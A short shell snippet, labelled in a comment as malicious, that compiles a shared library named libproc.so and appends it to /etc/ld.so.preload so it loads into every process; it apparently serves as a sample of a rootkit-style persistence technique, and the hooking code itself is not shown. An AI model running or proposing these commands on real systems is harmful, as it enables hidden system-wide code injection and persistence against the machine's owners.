# malicious: preloads a library for everybody
gcc -shared -fPIC -o /usr/local/lib/libproc.so hook.c -ldl
echo /usr/local/lib/libproc.so >> /etc/ld.so.preload
